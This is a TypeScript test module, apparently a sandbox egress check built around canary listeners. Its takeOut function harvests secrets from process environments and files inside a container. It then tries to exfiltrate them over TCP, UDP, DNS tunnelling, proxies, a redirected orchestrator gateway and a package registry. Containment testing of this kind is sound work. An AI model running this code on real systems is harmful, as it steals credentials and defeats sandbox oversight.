import type { Place } from './canary-listeners.ts'

export interface Errand {
  /** In everything that is sent: what arrives without it, the worker did not send. */
  readonly marker: string
  /** A regular expression for the secrets. */
  readonly pattern: string
  readonly places: readonly Place[]
  /** Names that the proxy is asked for. */
  readonly names: readonly string[]
}

interface Haul {
  /** What looks like a secret and can be read. */
  readonly secrets: readonly string[]
  /** The status with which each kind of way out answered: `proxy 403`. */
  readonly answers: readonly string[]
}

/**
 * In a worker's container: looks for secrets wherever its user can read, and sends each by every
 * way out. It is sent as text and uses nothing but its argument.
 */
export async function takeOut({ marker, pattern, places, names }: Errand): Promise<Haul> {
  const { connect } = process.getBuiltinModule('node:net')
  const { createSocket } = process.getBuiltinModule('node:dgram')
  const { Resolver, getServers } = process.getBuiltinModule('node:dns').promises
  const { execFileSync } = process.getBuiltinModule('node:child_process')
  const patience = 3_000

  const roots = '/etc /home /run /tmp /var /workspace /hub.git /opt'
  const search = `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -aoE "$0"
    grep -rhoasE "$0" ${roots}
    true`
  const found = execFileSync('sh', ['-c', search, pattern], { encoding: 'utf8' })
  const secrets = [...new Set(found.split('\n').filter((line) => line !== ''))]

  const answers = new Set<string>()
  const tcp = (kind: string, to: Place | string, bytes: string) => () =>
    new Promise<void>((resolve) => {
      const socket = typeof to === 'string' ? connect(to) : connect(to.port, to.host)
      socket.setTimeout(patience, () => socket.destroy())
      socket.on('connect', () => socket.write(bytes))
      socket.on('data', (chunk) => {
        const [, status] = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1')) ?? []
        if (status !== undefined) answers.add(`${kind} ${status}`)
        socket.end()
      })
      socket.on('error', () => undefined).on('close', () => resolve())
    })
  const udp =
    ({ host, port }: Place, bytes: string) =>
    () =>
      new Promise<void>((resolve) => {
        const socket = createSocket('udp4')
        socket.send(bytes, port, host, () => socket.close(() => resolve()))
      })
  const ask = (server: string, name: string) => async () => {
    const resolver = new Resolver({ timeout: patience, tries: 1 })
    resolver.setServers([server])
    await resolver.resolve4(name).catch(() => undefined)
  }

  const proxies = [{ host: '127.0.0.1', port: 3128 }, '/run/orchestrator/egress.sock']
  const url = new URL(process.env['ORCHESTRATOR_URL'] ?? '')
  const server = { host: url.hostname, port: Number(url.port) }
  const servers = [server, '/run/orchestrator/server.sock']
  const token = process.env['ORCHESTRATOR_TOKEN'] ?? ''
  const question = JSON.stringify({
    model: 'claude-haiku-5-5',
    max_tokens: 1,
    messages: [{ role: 'user', content: marker }],
  })

  const waysOut = (secret: string): readonly (() => Promise<void>)[] => {
    const word = Buffer.from(secret).toString('base64url')
    const path = `/${marker}/${word}`
    const name = `${marker}.${word}.example.com`
    const request = (target: string, authority: string, bearer = secret, body = secret) =>
      `POST ${target} HTTP/1.1\r\nHost: ${authority}\r\nX-Marker: ${marker}\r\n` +
      `Authorization: Bearer ${bearer}\r\nX-Canary: ${secret}\r\nConnection: close\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`
    const direct = places.flatMap((place) => [
      tcp('direct', place, request(path, place.host)),
      udp(place, `${marker} ${secret}`),
      ask(`${place.host}:${place.port}`, name),
    ])
    const nameServers = [...places.map(({ host }) => host), ...getServers()]
    const targets = [...places.map(({ host, port }) => `${host}:${port}`), ...names]
    const carried = targets.flatMap((authority) => {
      const tunnel = `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`
      return proxies.flatMap((proxy) => [
        tcp('proxy', proxy, request(`http://${authority}${path}`, authority)),
        tcp('proxy', proxy, tunnel + request(path, authority)),
      ])
    })
    // The server knows secrets that the worker does not: it may be led to another destination.
    const misled = targets.flatMap((authority) =>
      ['/gateway/v1/messages', `http://${authority}/gateway/v1/messages`].flatMap((target) =>
        servers.map((each) => tcp('gateway', each, request(target, authority, token, question))),
      ),
    )
    const registry = ['GET', 'PUT'].flatMap((method) =>
      servers.map((each) =>
        tcp('registry', each, request(`/registry/npm/${marker}`, url.host).replace('POST', method)),
      ),
    )
    return [
      ...direct,
      ...nameServers.map((each) => ask(each, name)),
      ...carried,
      ...misled,
      ...registry,
    ]
  }

  // Without a secret, too: a worker that found none tries the same ways.
  const queue = ['nothing', ...secrets].flatMap(waysOut)[Symbol.iterator]()
  const work = async () => {
    for (const wayOut of queue) await wayOut()
  }
  // More at once would meet the limit for the connections of a launch.
  await Promise.all(Array.from({ length: 12 }, work))
  return { secrets, answers: [...answers].toSorted() }
}
